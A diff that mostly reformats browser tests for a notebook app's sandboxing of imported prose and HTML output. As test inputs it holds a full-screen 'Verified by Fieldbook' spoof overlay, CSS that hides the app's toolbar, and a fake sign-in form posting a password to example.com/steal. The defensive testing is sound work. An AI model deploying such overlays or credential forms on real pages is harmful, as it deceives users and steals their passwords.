@@ -19,7 +19,10 @@ async function buttonOnTop(name: string): Promise<boolean> {
 }
 
 const SPOOF = [
-  '---', 'id: spoof', 'title: Spoof', '---',
+  '---',
+  'id: spoof',
+  'title: Spoof',
+  '---',
   '# Looks harmless',
   '',
   '<div style="position:fixed;top:0;left:0;right:0;bottom:0;z-index:99999;background:#0a0;color:#fff;font-size:3rem">Verified by Fieldbook</div>',
@@ -33,7 +36,7 @@ const SPOOF = [
 ].join('\n');
 
 describe('imported prose', () => {
-  it('cannot cover the app\'s buttons or leave its box', async () => {
+  it("cannot cover the app's buttons or leave its box", async () => {
     await s.page.goto(s.baseUrl);
     await importText(s.page, 'spoof.md', SPOOF);
     await s.page.waitForURL(/#\/imported\/spoof$/);
@@ -42,13 +45,15 @@ describe('imported prose', () => {
     for (const name of ['Trust this notebook', 'Import notebook', 'Storage']) expect(await buttonOnTop(name), name).toBe(true);
     expect(await buttonOnTop('Run all')).toBe(true);
     // Each spoofing element lies within the prose box it came in.
-    const escaped = await s.page.evaluate(() => ['Verified by Fieldbook', 'Verified', 'Trusted'].filter((text) => {
-      const el = [...document.querySelectorAll('.fb-prose *')].find((e) => e.textContent === text && !e.children.length);
-      if (!el) return false;
-      const box = el.closest('.fb-prose')!.getBoundingClientRect();
-      const r = el.getBoundingClientRect();
-      return r.left < box.left - 1 || r.top < box.top - 1 || r.right > box.right + 1 || r.bottom > box.bottom + 1;
-    }));
+    const escaped = await s.page.evaluate(() =>
+      ['Verified by Fieldbook', 'Verified', 'Trusted'].filter((text) => {
+        const el = [...document.querySelectorAll('.fb-prose *')].find((e) => e.textContent === text && !e.children.length);
+        if (!el) return false;
+        const box = el.closest('.fb-prose')!.getBoundingClientRect();
+        const r = el.getBoundingClientRect();
+        return r.left < box.left - 1 || r.top < box.top - 1 || r.right > box.right + 1 || r.bottom > box.bottom + 1;
+      }),
+    );
     expect(escaped).toEqual([]);
   });
 });
@@ -60,11 +65,14 @@ describe('a trusted HTML output', () => {
       body: getComputedStyle(document.body).backgroundColor,
       toolbar: getComputedStyle(document.querySelector('.fb-toolbar')!).display,
     }));
-    const id = await addCodeCell(s.page, [
-      'display.html(`<p class="probe">styled inside</p>',
-      '<style>.fb-toolbar, .fb-header { display: none !important } body { background: rgb(255, 0, 0) !important } p.probe { color: rgb(1, 2, 3) }</style>',
-      '<div style="position:fixed;inset:0;z-index:99999;background:#0a0">cover</div>`)',
-    ].join('\n'));
+    const id = await addCodeCell(
+      s.page,
+      [
+        'display.html(`<p class="probe">styled inside</p>',
+        '<style>.fb-toolbar, .fb-header { display: none !important } body { background: rgb(255, 0, 0) !important } p.probe { color: rgb(1, 2, 3) }</style>',
+        '<div style="position:fixed;inset:0;z-index:99999;background:#0a0">cover</div>`)',
+      ].join('\n'),
+    );
     expect(await runInPlace(s.page, id)).toBe('ok');
     const probe = s.page.locator(`fb-cell[data-cell-id="${id}"] p.probe`);
     await probe.waitFor();
@@ -82,7 +90,10 @@ describe('a trusted HTML output', () => {
   it('shows no form and no password field', async () => {
     // Another notebook, so the earlier output is off the page.
     await openNotebook(s, 'fraud-detection');
-    const id = await addCodeCell(s.page, 'display.html(`<form action="https://example.com/steal"><label>Password <input type="password" name="pw"></label><input type="text" name="user"><button>Sign in</button></form><p class="after-form">after</p>`)');
+    const id = await addCodeCell(
+      s.page,
+      'display.html(`<form action="https://example.com/steal"><label>Password <input type="password" name="pw"></label><input type="text" name="user"><button>Sign in</button></form><p class="after-form">after</p>`)',
+    );
     expect(await runInPlace(s.page, id)).toBe('ok');
     const output = s.page.locator(`fb-cell[data-cell-id="${id}"] .fb-outputs`);
     await output.locator('p.after-form').waitFor();
